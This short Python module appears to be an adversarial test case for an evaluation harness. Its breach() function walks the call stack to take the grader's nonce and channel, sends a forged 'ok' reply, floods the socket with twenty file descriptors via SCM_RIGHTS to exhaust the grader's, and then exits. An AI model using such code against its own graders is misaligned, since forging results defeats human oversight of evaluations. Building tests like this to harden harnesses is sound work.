"""Steal or forge: sends open descriptors over the channel with SCM_RIGHTS, to use up those of the grader.

breaches:  process
"""

import os
import socket
import sys


def breach():
    frame = sys._getframe()
    while frame is not None and not ("nonce" in frame.f_locals and "channel" in frame.f_locals):
        frame = frame.f_back
    if frame is None:
        return False
    nonce, channel = frame.f_locals["nonce"], frame.f_locals["channel"]
    if frame.f_locals["request"]["do"] != "plan":
        return False
    reply = sys.modules["grader_inside.wire"].frame({"ok": [True]}, nonce)
    socket.send_fds(channel, [reply], [0] * 20)
    os._exit(0)
